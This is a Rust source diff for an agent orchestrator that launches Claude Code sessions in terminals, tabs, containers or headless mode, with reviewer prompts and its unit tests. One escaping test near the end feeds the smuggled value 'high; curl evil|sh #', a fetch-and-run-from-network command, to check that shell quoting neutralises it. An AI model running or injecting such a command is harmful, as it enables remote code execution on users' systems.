@@ -6,6 +6,7 @@
 mod detection;
 mod pid_tracking;
 mod spawner;
+mod tabs;
 mod window_ops;
 
 use anyhow::{bail, Context, Result};
@@ -14,48 +15,125 @@ use std::borrow::Cow;
 use std::path::{Path, PathBuf};
 use std::process::Command;
 
+use super::overrides::{override_for, pinned_emulator, EmulatorOverride};
 use crate::claude::find_claude_path;
+use crate::fs::work_dir::read_terminal_config;
 use crate::models::session::{Session, SessionType};
-use crate::models::stage::Stage;
+use crate::models::stage::{ContainerConfig, Stage};
 use crate::models::worktree::Worktree;
 
 pub use detection::detect_terminal;
-pub use pid_tracking::{cleanup_stage_files, create_wrapper_script, read_pid_entry, read_pid_file};
+pub use pid_tracking::{
+    cleanup_stage_files, create_wrapper_script, pids_dir, read_pid_entry, read_pid_file,
+    wrappers_dir,
+};
 pub use spawner::spawn_in_terminal;
-pub use window_ops::{close_window_by_title, window_exists_by_title};
+pub use tabs::TabHost;
 #[cfg(target_os = "macos")]
-pub use window_ops::{close_window_by_title_for_terminal, window_exists_by_title_for_terminal};
+pub use window_ops::window_exists_by_title_for_terminal;
+pub use window_ops::{
+    close_window_by_title, close_window_by_title_for_terminal, focus_window_by_title_for_terminal,
+    window_exists_by_title,
+};
 
-fn close_window_for_terminal(title: &str, terminal: &super::emulator::TerminalEmulator) -> bool {
+fn window_exists_for_terminal(title: &str, terminal: &super::emulator::TerminalEmulator) -> bool {
     #[cfg(target_os = "macos")]
     {
-        close_window_by_title_for_terminal(title, terminal)
+        window_exists_by_title_for_terminal(title, terminal)
     }
 
     #[cfg(not(target_os = "macos"))]
     {
         let _ = terminal;
-        close_window_by_title(title)
+        window_exists_by_title(title)
     }
 }
 
-fn window_exists_for_terminal(title: &str, terminal: &super::emulator::TerminalEmulator) -> bool {
-    #[cfg(target_os = "macos")]
-    {
-        window_exists_by_title_for_terminal(title, terminal)
-    }
+/// Build the initial prompt handed to the agent for a session of `kind`.
+fn build_initial_prompt(kind: SessionType, stage: &Stage, signal_path: &Path) -> String {
+    let signal_path_str = signal_path.to_string_lossy();
 
-    #[cfg(not(target_os = "macos"))]
-    {
-        let _ = terminal;
-        window_exists_by_title(title)
+    // A plan-defined `prompt_prefix` replaces the generic opening for
+    // stage-defined sessions; the signal path is still given so the
+    // session can find its assignment.
+    let prompt_prefix = stage
+        .prompt_prefix
+        .as_deref()
+        .map(str::trim)
+        .filter(|prefix| !prefix.is_empty());
+
+    match kind {
+        SessionType::Stage | SessionType::Human => {
+            // The literal keyword "ultracode" in the prompt is what licenses
+            // Claude Code's Workflow tool for the session.
+            let ultracode_suffix = if stage.ultracode {
+                " This stage is licensed for ultracode workflow orchestration."
+            } else {
+                ""
+            };
+            match prompt_prefix {
+                Some(prefix) => format!(
+                    "{prefix} The signal file at {signal_path_str} contains your assignment, \
+                     tasks, acceptance criteria, and context files to read.{ultracode_suffix}"
+                ),
+                None => format!(
+                    "Read the signal file at {signal_path_str} and execute the assigned stage work. \
+                     This file contains your assignment, tasks, acceptance criteria, \
+                     and context files to read.{ultracode_suffix}"
+                ),
+            }
+        }
+        SessionType::Merge => format!(
+            "Read the merge signal file at {signal_path_str} and resolve the merge conflicts. \
+             This file contains the conflicting files, merge context, and resolution instructions."
+        ),
+        SessionType::BaseConflict => format!(
+            "Read the base conflict signal file at {signal_path_str} and resolve the merge conflicts. \
+             This file contains the conflicting files from merging dependency branches, \
+             and instructions for resolution. After resolving, tell the user to run `loom retry {}`.",
+            stage.id
+        ),
+        SessionType::Knowledge => match prompt_prefix {
+            Some(prefix) => format!(
+                "{prefix} The signal file at {signal_path_str} contains your assignment, \
+                 tasks, acceptance criteria, and instructions for populating the knowledge base."
+            ),
+            None => format!(
+                "Read the signal file at {signal_path_str} and execute the assigned knowledge gathering work. \
+                 This file contains your assignment, tasks, acceptance criteria, \
+                 and instructions for populating the knowledge base."
+            ),
+        },
     }
 }
 
+/// Build the initial prompt for the reviewer session of a pair-mode stage.
+fn build_reviewer_prompt(stage: &Stage, signal_path: &Path) -> String {
+    format!(
+        "You are the reviewer in pair mode for stage '{id}'. Read the signal file at {signal} \
+         for the stage's goal and acceptance criteria. Another session implements the stage in \
+         this worktree; do not edit files or commit. Review its commits, run the acceptance \
+         criteria and tests, then record your verdict with `loom stage pair-review {id} --approve` \
+         or `loom stage pair-review {id} --reject --notes \"<what must change>\"`. The stage \
+         cannot complete until its latest commit is approved, so review again after each fix.",
+        id = stage.id,
+        signal = signal_path.to_string_lossy()
+    )
+}
+
+/// Tools withheld from a pair reviewer so it cannot change the worktree.
+///
+/// `--disallowedTools` takes a variable number of values, so this goes after
+/// the positional prompt like `--remote-control`.
+const READ_ONLY_FLAGS: &str = " --disallowedTools Edit Write NotebookEdit";
+
 /// Build the `claude` invocation string shared by all native spawn sites.
 ///
-/// Produces `"{claude_path} --model {model} --effort {effort} --permission-mode
-/// {permission_mode} {escaped_prompt}[ --remote-control]"`.
+/// Produces `"{claude_path}[ --print] --model {model} --effort {effort}
+/// --permission-mode {permission_mode} {escaped_prompt}[ --remote-control]"`.
+///
+/// `--print` runs the agent non-interactively for headless sessions (see
+/// [`super::headless`]): it works through the prompt and exits.
 ///
 /// `--permission-mode` is passed on the CLI rather than left to
 /// `permissions.defaultMode` in the worktree's `settings.local.json`, because
@@ -87,6 +165,7 @@ fn build_claude_command(
     model: &str,
     effort: &str,
     permission_mode: &str,
+    print_mode: bool,
     remote_control_enabled: bool,
     escaped_prompt: &str,
 ) -> String {
@@ -94,41 +173,120 @@ fn build_claude_command(
     let model = escape(Cow::Borrowed(model));
     let effort = escape(Cow::Borrowed(effort));
     let permission_mode = escape(Cow::Borrowed(permission_mode));
+    let print_flag = if print_mode { " --print" } else { "" };
     let remote_control_flag = if remote_control_enabled {
         " --remote-control"
     } else {
         ""
     };
     format!(
-        "{claude_path} --model {model} --effort {effort} --permission-mode {permission_mode} {escaped_prompt}{remote_control_flag}"
+        "{claude_path}{print_flag} --model {model} --effort {effort} --permission-mode {permission_mode} {escaped_prompt}{remote_control_flag}"
     )
 }
 
+/// Directory a stage session starts in: `root/<working_dir>`.
+///
+/// Acceptance criteria run from the same directory, so a missing one fails the
+/// spawn instead of starting the agent where its build commands cannot work.
+fn stage_start_dir(root: &Path, stage: &Stage) -> Result<PathBuf> {
+    match stage.working_dir.as_deref() {
+        Some(dir) if !dir.is_empty() && dir != "." => {
+            let path = root.join(dir);
+            if !path.is_dir() {
+                bail!(
+                    "Stage '{}' working_dir '{dir}' does not exist in {}",
+                    stage.id,
+                    root.display()
+                );
+            }
+            Ok(path)
+        }
+        _ => Ok(root.to_path_buf()),
+    }
+}
+
+/// How [`NativeBackend::spawn`] runs the agent.
+#[derive(Debug, Clone, Copy)]
+pub(in crate::orchestrator::terminal) enum Launch<'a> {
+    /// `claude` in a terminal window
+    Window,
+    /// `docker run` in a terminal window (see [`super::docker`])
+    Container(&'a ContainerConfig),
+    /// `claude --print` in the background (see [`super::headless`])
+    Headless,
+}
+
 /// Native terminal backend - spawns sessions in native terminal windows
 pub struct NativeBackend {
-    /// The terminal emulator to use
-    terminal: super::emulator::TerminalEmulator,
+    /// The terminal emulator to use; `None` when none is available and only
+    /// headless sessions can be spawned
+    terminal: Option<super::emulator::TerminalEmulator>,
+    /// Why no terminal emulator is available
+    terminal_error: Option<String>,
     /// The .work directory path for PID tracking
     work_dir: PathBuf,
+    /// Window hosting session tabs (`[terminal] tabs = true`)
+    tabs: Option<TabHost>,
+    /// `[terminal.emulators.<name>]` spawn and close overrides
+    spawn_override: Option<EmulatorOverride>,
 }
 
 impl NativeBackend {
-    /// Create a new native backend, detecting the available terminal
+    /// Create a new native backend, using the terminal pinned by
+    /// `[terminal] emulator` or detecting the available one
     pub fn new(work_dir: PathBuf) -> Result<Self> {
-        let terminal = detect_terminal()?;
-        // Log the detected terminal for debugging terminal selection issues
-        eprintln!("Detected terminal: {}", terminal.display_name());
-        Ok(Self { terminal, work_dir })
+        let config = read_terminal_config(&work_dir).unwrap_or_default();
+        let (terminal, spawn_override) = match pinned_emulator(&config)? {
+            Some((terminal, spawn_override)) => {
+                let name = config.emulator.as_deref().unwrap_or_default();
+                eprintln!("Using configured terminal: {name}");
+                (terminal, spawn_override)
+            }
+            None => {
+                let terminal = detect_terminal()?;
+                // Log the detected terminal for debugging terminal selection issues
+                eprintln!("Detected terminal: {}", terminal.display_name());
+                (terminal, override_for(&config, terminal))
+            }
+        };
+        let tabs = TabHost::configured(&work_dir);
+        if let Some(host) = &tabs {
+            eprintln!(
+                "Opening sessions as tabs in the {} window",
+                host.display_name()
+            );
+        }
+        Ok(Self {
+            terminal: Some(terminal),
+            terminal_error: None,
+            work_dir,
+            tabs,
+            spawn_override,
+        })
+    }
+
+    /// Create a backend for a host without a terminal emulator (e.g. CI).
+    ///
+    /// Only headless sessions can be spawned; spawning a windowed session
+    /// fails with `reason`. Liveness checks and kills work as usual.
+    pub fn without_terminal(work_dir: PathBuf, reason: String) -> Self {
+        Self {
+            terminal: None,
+            terminal_error: Some(reason),
+            work_dir,
+            tabs: None,
+            spawn_override: None,
+        }
     }
 
     /// Get the detected terminal emulator
-    pub fn terminal(&self) -> &super::emulator::TerminalEmulator {
-        &self.terminal
+    pub fn terminal(&self) -> Option<&super::emulator::TerminalEmulator> {
+        self.terminal.as_ref()
     }
 
     /// Returns `(window_title, pid_file_key)` for a session.
     ///
-    /// - `window_title` is the session's `tracking_key` (`loom-[<kind>-]<id>`),
+    /// - `window_title` is the session's `tracking_key` (`loom-[<ns>-][<kind>-]<id>`),
     ///   matched EXACTLY against OS window titles (O-5).
     /// - `pid_file_key` is `tracking_key + session.id` — the per-session key the
     ///   spawn path used to name the PID file, so two consecutive sessions for
@@ -140,7 +298,11 @@ impl NativeBackend {
         let title = if !session.tracking_key.is_empty() {
             session.tracking_key.clone()
         } else {
-            format!("loom-{}", session.stage_id.as_ref()?)
+            format!(
+                "{}{}",
+                crate::namespace::title_prefix(),
+                session.stage_id.as_ref()?
+            )
         };
         let pid_key = format!("{}-{}", title, session.id);
         Some((title, pid_key))
@@ -160,6 +322,7 @@ impl NativeBackend {
             signal_path,
             &worktree.path,
             true,
+            Launch::Window,
         )
     }
 
@@ -177,6 +340,7 @@ impl NativeBackend {
             signal_path,
             repo_root,
             false,
+            Launch::Window,
         )
     }
 
@@ -194,6 +358,7 @@ impl NativeBackend {
             signal_path,
             repo_root,
             false,
+            Launch::Window,
         )
     }
 
@@ -211,6 +376,7 @@ impl NativeBackend {
             signal_path,
             repo_root,
             false,
+            Launch::Window,
         )
     }
 
@@ -223,11 +389,16 @@ impl NativeBackend {
     /// wrappers so out-of-cluster callers keep their signatures.
     ///
     /// * `kind` — selects the prompt and the model/effort policy.
-    /// * `cwd` — the directory the wrapper `cd`s into and the terminal spawns
-    ///   from (the worktree for stage sessions, the repo root otherwise).
+    /// * `cwd` — the session's root directory (the worktree for stage sessions,
+    ///   the repo root otherwise). Stage and knowledge sessions start in the
+    ///   stage's `working_dir` under it; the others start at `cwd` itself.
     /// * `set_worktree_path` — only stage sessions record a worktree path; the
     ///   others run in the main repo.
-    fn spawn(
+    /// * `launch` — run the agent directly in a terminal window, in a
+    ///   container via `docker run` (see [`super::docker`]), or in the
+    ///   background as `claude --print` (see [`super::headless`]).
+    #[allow(clippy::too_many_arguments)]
+    pub(in crate::orchestrator::terminal) fn spawn(
         &self,
         kind: SessionType,
         stage: &Stage,
@@ -235,11 +406,41 @@ impl NativeBackend {
         signal_path: &Path,
         cwd: &Path,
         set_worktree_path: bool,
+        launch: Launch<'_>,
     ) -> Result<Session> {
-        let cwd_str = cwd.to_str().ok_or_else(|| {
+        if kind == SessionType::Human {
+            anyhow::bail!(
+                "Human sessions have no agent process to spawn (stage '{}')",
+                stage.id
+            );
+        }
+
+        let headless = matches!(launch, Launch::Headless);
+        let container = match launch {
+            Launch::Container(config) => Some(config),
+            Launch::Window | Launch::Headless => None,
+        };
+        let terminal = match (headless, self.terminal) {
+            (true, _) => None,
+            (false, Some(terminal)) => Some(terminal),
+            (false, None) => bail!(
+                "Cannot open a terminal window for stage '{}': {}. \
+                 Set `execution_mode: headless` to run it without one.",
+                stage.id,
+                self.terminal_error
+                    .as_deref()
+                    .unwrap_or("no terminal emulator available")
+            ),
+        };
+
+        let start_dir = match kind {
+            SessionType::Stage | SessionType::Knowledge => stage_start_dir(cwd, stage)?,
+            _ => cwd.to_path_buf(),
+        };
+        let start_dir_str = start_dir.to_str().ok_or_else(|| {
             anyhow::anyhow!(
                 "Session working directory contains invalid UTF-8: {}",
-                cwd.display()
+                start_dir.display()
             )
         })?;
 
@@ -252,47 +453,24 @@ impl NativeBackend {
         session.assign_to_stage(stage.id.clone());
 
         // Window title and the stage-key portion of the wrapper's LOOM_STAGE_ID.
-        // `tracking_key` is `loom-[<kind>-]<stage-id>`; stripping `loom-` yields
-        // the value passed historically as the wrapper's stage id.
+        // `tracking_key` is `loom-[<ns>-][<kind>-]<stage-id>`; stripping
+        // `loom-[<ns>-]` yields the value passed historically as the wrapper's
+        // stage id.
         let title = session.tracking_key.clone();
-        let wrapper_stage_id = title.strip_prefix("loom-").unwrap_or(&title).to_string();
+        let wrapper_stage_id = title
+            .strip_prefix(&crate::namespace::title_prefix())
+            .unwrap_or(&title)
+            .to_string();
 
         // Per-session PID-file key (tracking_key + session.id) so two
         // consecutive sessions for the same stage never share a PID file (O-14).
         let pid_key = format!("{}-{}", title, session.id);
 
         // Build the kind-specific initial prompt.
-        let signal_path_str = signal_path.to_string_lossy();
-        let initial_prompt = match kind {
-            SessionType::Stage => {
-                // The literal keyword "ultracode" in the prompt is what licenses
-                // Claude Code's Workflow tool for the session.
-                let ultracode_suffix = if stage.ultracode {
-                    " This stage is licensed for ultracode workflow orchestration."
-                } else {
-                    ""
-                };
-                format!(
-                    "Read the signal file at {signal_path_str} and execute the assigned stage work. \
-                     This file contains your assignment, tasks, acceptance criteria, \
-                     and context files to read.{ultracode_suffix}"
-                )
-            }
-            SessionType::Merge => format!(
-                "Read the merge signal file at {signal_path_str} and resolve the merge conflicts. \
-                 This file contains the conflicting files, merge context, and resolution instructions."
-            ),
-            SessionType::BaseConflict => format!(
-                "Read the base conflict signal file at {signal_path_str} and resolve the merge conflicts. \
-                 This file contains the conflicting files from merging dependency branches, \
-                 and instructions for resolution. After resolving, tell the user to run `loom retry {}`.",
-                stage.id
-            ),
-            SessionType::Knowledge => format!(
-                "Read the signal file at {signal_path_str} and execute the assigned knowledge gathering work. \
-                 This file contains your assignment, tasks, acceptance criteria, \
-                 and instructions for populating the knowledge base."
-            ),
+        let initial_prompt = if session.is_pair_reviewer() {
+            build_reviewer_prompt(stage, signal_path)
+        } else {
+            build_initial_prompt(kind, stage, signal_path)
         };
         let escaped_prompt = escape(Cow::Borrowed(&initial_prompt));
 
@@ -302,7 +480,7 @@ impl NativeBackend {
         // stage and knowledge sessions use the stage's effective values.
         let (model, effort) = match kind {
             SessionType::Merge | SessionType::BaseConflict => ("opus", "xhigh"),
-            SessionType::Stage | SessionType::Knowledge => {
+            SessionType::Stage | SessionType::Knowledge | SessionType::Human => {
                 (stage.effective_model(), stage.effective_reasoning_effort())
             }
         };
@@ -328,20 +506,46 @@ impl NativeBackend {
 
         // Find claude's absolute path (needed for macOS where terminals don't inherit PATH).
         // build_claude_command shell-escapes the path, model, effort, and mode (S-3).
-        let claude_path = find_claude_path()?;
-        let remote_control_enabled = crate::remote_control::resolve(&self.work_dir);
-        let claude_cmd = build_claude_command(
-            &claude_path.display().to_string(),
+        // Inside a container, `claude` comes from the image's PATH.
+        let claude_path = match container {
+            Some(config) => {
+                super::docker::ensure_docker(config)?;
+                "claude".to_string()
+            }
+            None => find_claude_path()?.display().to_string(),
+        };
+        // Remote Control needs an interactive session to attach to.
+        let remote_control_enabled = !headless && crate::remote_control::resolve(&self.work_dir);
+        let mut claude_cmd = build_claude_command(
+            &claude_path,
             model,
             effort,
             permission_mode.as_settings_value(),
+            headless,
             remote_control_enabled,
             &escaped_prompt,
         );
+        if session.is_pair_reviewer() {
+            claude_cmd.push_str(READ_ONLY_FLAGS);
+        }
+
+        // The per-session PID-file key doubles as the container name: unique
+        // per session and limited to characters docker accepts.
+        if let Some(config) = container {
+            claude_cmd = super::docker::build_docker_run_command(
+                config,
+                &pid_key,
+                &start_dir,
+                &self.work_dir,
+                &claude_cmd,
+            );
+            session.container = Some(pid_key.clone());
+        }
 
         // Create the wrapper script (writes PID + start-time before exec'ing
         // claude). `wrapper_stage_id` sets LOOM_STAGE_ID; `pid_key` names the
-        // per-session PID file. Pass cwd so the script can cd there (macOS).
+        // per-session PID file. Pass the directories so the script can cd
+        // there (macOS) and export the worktree boundary.
         let wrapper_path = pid_tracking::create_wrapper_script(
             &self.work_dir,
             &pid_key,
@@ -349,20 +553,41 @@ impl NativeBackend {
             &session.id,
             &claude_cmd,
             Some(cwd),
+            Some(&start_dir),
         )?;
 
         // Build the command that runs the wrapper script.
         // IMPORTANT: Use absolute path because macOS terminals open in home directory.
         let wrapper_path_abs = wrapper_path.canonicalize().unwrap_or(wrapper_path);
-        let wrapper_cmd = wrapper_path_abs.to_string_lossy();
 
-        // Spawn the terminal with PID tracking constrained by this session's
-        // LOOM_SESSION_ID marker (O-14).
+        // Spawn the terminal (or the headless runner) with PID tracking
+        // constrained by this session's LOOM_SESSION_ID marker (O-14).
+        let command = match terminal {
+            None => super::headless::build_command(&wrapper_path_abs, &self.work_dir, &session.id)?,
+            Some(terminal) => {
+                let wrapper_cmd = super::keep_open::launch_command(
+                    &wrapper_path_abs,
+                    super::keep_open::keep_open(Some(stage), &self.work_dir),
+                );
+                match &self.tabs {
+                    Some(host) => host.build_command(&title, &start_dir, &wrapper_cmd),
+                    None => match &self.spawn_override {
+                        Some(custom) => custom.build_command(
+                            terminal,
+                            &title,
+                            Path::new(start_dir_str),
+                            &wrapper_cmd,
+                        ),
+                        None => {
+                            terminal.build_command(&title, Path::new(start_dir_str), &wrapper_cmd)
+                        }
+                    },
+                }
+            }
+        };
         let pid = spawn_in_terminal(
-            &self.terminal,
-            &title,
-            Path::new(cwd_str),
-            &wrapper_cmd,
+            command,
+            Path::new(start_dir_str),
             Some(&self.work_dir),
             Some(&pid_key),
             Some(&session.id),
@@ -379,6 +604,25 @@ impl NativeBackend {
     }
 
     pub fn kill_session(&self, session: &Session) -> Result<()> {
+        // A human claim has no window or process to terminate.
+        if session.is_human_session() {
+            return Ok(());
+        }
+
+        // Container sessions are stopped through docker; the terminal window
+        // only hosts the `docker run` client.
+        if let Some(container) = &session.container {
+            let resolved = Self::window_title_and_pid_key(session);
+            super::docker::kill_container(container)?;
+            if let Some((title, _)) = &resolved {
+                self.close_window(title);
+            }
+            if let Some((_, pid_key)) = &resolved {
+                cleanup_stage_files(&self.work_dir, pid_key);
+            }
+            return Ok(());
+        }
+
         // Resolve the window title and PID-file key for this session,
         // preferring the session's tracking_key so that merge/knowledge/
         // base-conflict sessions (which use prefixed titles and keys) are
@@ -389,7 +633,7 @@ impl NativeBackend {
         // This approach works correctly even for terminal emulators like gnome-terminal
         // that use a server process, where killing by PID would kill all windows.
         if let Some((title, pid_key)) = &resolved {
-            if close_window_for_terminal(title, &self.terminal) {
+            if self.close_window(title) {
                 // Clean up tracking files after closing the window
                 cleanup_stage_files(&self.work_dir, pid_key);
                 return Ok(());
@@ -441,7 +685,55 @@ impl NativeBackend {
         Ok(())
     }
 
+    /// Bring the session's window (or tab) to the front.
+    ///
+    /// Returns `false` when no window for the session could be found.
+    pub fn focus_session(&self, session: &Session) -> bool {
+        let Some((title, _)) = Self::window_title_and_pid_key(session) else {
+            return false;
+        };
+        self.tabs.as_ref().is_some_and(|host| host.focus(&title))
+            || self
+                .terminal
+                .as_ref()
+                .is_some_and(|terminal| focus_window_by_title_for_terminal(&title, terminal))
+    }
+
+    /// Close the window (or tab) titled `title`.
+    fn close_window(&self, title: &str) -> bool {
+        self.tabs.as_ref().is_some_and(|host| host.close(title))
+            || self
+                .spawn_override
+                .as_ref()
+                .is_some_and(|custom| custom.close(title))
+            || self
+                .terminal
+                .as_ref()
+                .is_some_and(|terminal| close_window_by_title_for_terminal(title, terminal))
+    }
+
+    fn window_exists(&self, title: &str) -> bool {
+        self.tabs.as_ref().is_some_and(|host| host.exists(title))
+            || self
+                .terminal
+                .as_ref()
+                .is_some_and(|terminal| window_exists_for_terminal(title, terminal))
+    }
+
     pub fn is_session_alive(&self, session: &Session) -> Result<bool> {
+        // A human claim stays live until the stage is completed or reset;
+        // treating it as dead would let orphan recovery re-queue the stage
+        // and spawn an agent into the human's worktree.
+        if session.is_human_session() {
+            return Ok(true);
+        }
+
+        // The terminal only runs the `docker run` client; ask the docker
+        // daemon about the container itself.
+        if let Some(container) = &session.container {
+            return super::docker::is_container_running(container);
+        }
+
         // Layered approach to checking if session is alive:
         // 1. Try reading from PID file (most current)
         // 2. Check if that PID is alive
@@ -476,7 +768,7 @@ impl NativeBackend {
 
         // Final fallback: check if window still exists
         if let Some((title, _)) = &resolved {
-            if window_exists_for_terminal(title, &self.terminal) {
+            if self.window_exists(title) {
                 return Ok(true);
             }
         }
@@ -485,6 +777,56 @@ impl NativeBackend {
     }
 }
 
+impl super::TerminalBackend for NativeBackend {
+    fn spawn_session(
+        &self,
+        stage: &Stage,
+        worktree: &Worktree,
+        session: Session,
+        signal_path: &Path,
+    ) -> Result<Session> {
+        NativeBackend::spawn_session(self, stage, worktree, session, signal_path)
+    }
+
+    fn spawn_merge_session(
+        &self,
+        stage: &Stage,
+        session: Session,
+        signal_path: &Path,
+        repo_root: &Path,
+    ) -> Result<Session> {
+        NativeBackend::spawn_merge_session(self, stage, session, signal_path, repo_root)
+    }
+
+    fn spawn_base_conflict_session(
+        &self,
+        stage: &Stage,
+        session: Session,
+        signal_path: &Path,
+        repo_root: &Path,
+    ) -> Result<Session> {
+        NativeBackend::spawn_base_conflict_session(self, stage, session, signal_path, repo_root)
+    }
+
+    fn spawn_knowledge_session(
+        &self,
+        stage: &Stage,
+        session: Session,
+        signal_path: &Path,
+        repo_root: &Path,
+    ) -> Result<Session> {
+        NativeBackend::spawn_knowledge_session(self, stage, session, signal_path, repo_root)
+    }
+
+    fn kill_session(&self, session: &Session) -> Result<()> {
+        NativeBackend::kill_session(self, session)
+    }
+
+    fn is_session_alive(&self, session: &Session) -> Result<bool> {
+        NativeBackend::is_session_alive(self, session)
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -502,6 +844,45 @@ mod tests {
         }
     }
 
+    #[test]
+    fn initial_prompt_uses_stage_prompt_prefix() {
+        let signal = Path::new("/repo/.work/signals/s-1.md");
+        let mut stage = Stage::new("api".to_string(), None);
+
+        let default = build_initial_prompt(SessionType::Stage, &stage, signal);
+        assert!(default.starts_with("Read the signal file at /repo/.work/signals/s-1.md"));
+
+        stage.prompt_prefix = Some("Plan first, don't edit.".to_string());
+        let custom = build_initial_prompt(SessionType::Stage, &stage, signal);
+        assert!(custom
+            .starts_with("Plan first, don't edit. The signal file at /repo/.work/signals/s-1.md"));
+
+        // Conflict resolution prompts are never overridden
+        let merge = build_initial_prompt(SessionType::Merge, &stage, signal);
+        assert!(merge.starts_with("Read the merge signal file"));
+    }
+
+    #[test]
+    fn stage_start_dir_joins_working_dir() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        std::fs::create_dir(root.join("app")).unwrap();
+        let mut stage = Stage::new("api".to_string(), None);
+
+        assert_eq!(stage_start_dir(root, &stage).unwrap(), root);
+        stage.working_dir = Some(".".to_string());
+        assert_eq!(stage_start_dir(root, &stage).unwrap(), root);
+        stage.working_dir = Some("app".to_string());
+        assert_eq!(stage_start_dir(root, &stage).unwrap(), root.join("app"));
+
+        stage.working_dir = Some("missing".to_string());
+        let err = stage_start_dir(root, &stage).unwrap_err().to_string();
+        assert!(
+            err.contains("working_dir 'missing' does not exist"),
+            "{err}"
+        );
+    }
+
     #[test]
     fn window_title_and_pid_key_for_stage_session() {
         let mut session = Session::new();
@@ -594,6 +975,16 @@ mod tests {
         // `loom-auth` never matches `loom-auth-tests`.
     }
 
+    #[test]
+    fn reviewer_prompt_names_the_pair_review_command() {
+        let mut stage = Stage::new("API".to_string(), None);
+        stage.id = "api".to_string();
+        let prompt = build_reviewer_prompt(&stage, Path::new(".work/signals/s1.md"));
+        assert!(prompt.contains(".work/signals/s1.md"));
+        assert!(prompt.contains("loom stage pair-review api --approve"));
+        assert!(READ_ONLY_FLAGS.contains("Edit Write"));
+    }
+
     #[test]
     fn build_claude_command_omits_remote_control_when_disabled() {
         let cmd = build_claude_command(
@@ -602,6 +993,7 @@ mod tests {
             "xhigh",
             "auto",
             false,
+            false,
             "'prompt'",
         );
         assert_eq!(
@@ -618,6 +1010,7 @@ mod tests {
             "sonnet",
             "high",
             "auto",
+            false,
             true,
             "'prompt'",
         );
@@ -634,6 +1027,23 @@ mod tests {
         assert!(prompt_idx < rc_idx);
     }
 
+    #[test]
+    fn build_claude_command_prints_for_headless_sessions() {
+        let cmd = build_claude_command(
+            "/usr/bin/claude",
+            "sonnet",
+            "high",
+            "auto",
+            true,
+            false,
+            "'prompt'",
+        );
+        assert_eq!(
+            cmd,
+            "/usr/bin/claude --print --model sonnet --effort high --permission-mode auto 'prompt'"
+        );
+    }
+
     #[test]
     fn build_claude_command_passes_permission_mode_before_prompt() {
         // The resolved permission mode is passed on the CLI (not left to
@@ -645,6 +1055,7 @@ mod tests {
             "xhigh",
             "acceptEdits",
             false,
+            false,
             "'prompt'",
         );
         assert!(cmd.contains("--permission-mode acceptEdits"));
@@ -666,6 +1077,7 @@ mod tests {
             "high; curl evil|sh #",
             "auto",
             false,
+            false,
             "'prompt'",
         );
         // The whole effort token is single-quoted, so no `;`/`|`/`#` is active.
@@ -683,6 +1095,7 @@ mod tests {
             "high",
             "auto",
             false,
+            false,
             "'prompt'",
         );
         assert!(cmd.starts_with("'/opt/My Tools/claude' --model sonnet"));